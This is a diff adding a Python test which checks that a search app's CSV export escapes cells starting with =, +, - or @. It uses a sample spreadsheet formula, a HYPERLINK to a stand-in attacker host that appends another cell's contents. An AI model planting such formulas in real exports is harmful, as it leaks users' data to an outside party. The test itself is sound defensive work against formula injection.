@@ -94,3 +94,17 @@ def test_an_earlier_query_offered_as_related_loads_no_image(app_wb, app_site) ->
     assert not [b.label for b in related if "<img" in RENDER(b.label)]
     next(b for b in related if "tracker" in b.label).click().run()
     assert at.text_input(key="search_query").value == hostile  # the click searches the query itself
+
+
+def test_a_downloaded_csv_runs_no_formula_from_a_document() -> None:
+    """A spreadsheet runs a cell starting with = + - @ as a formula: a title could send its row's text away."""
+    import csv
+    import io
+
+    hostile = '=HYPERLINK("https://evil.example/?"&B2, "open")'
+    rows = [{"rank": 1, "title": hostile, "file_path": "-notes.md", "highlights": "@SUM(1)", "score": -0.5},
+            {"rank": 2, "title": "Plain title", "file_path": "a.md", "highlights": "", "score": 0.25}]
+    parsed = list(csv.DictReader(io.StringIO(app_ui.csv_text(rows))))
+    assert [r["title"] for r in parsed] == ["'" + hostile, "Plain title"]
+    assert parsed[0]["file_path"] == "'-notes.md" and parsed[0]["highlights"] == "'@SUM(1)"
+    assert parsed[0]["score"] == "-0.5"  # numbers stay numbers
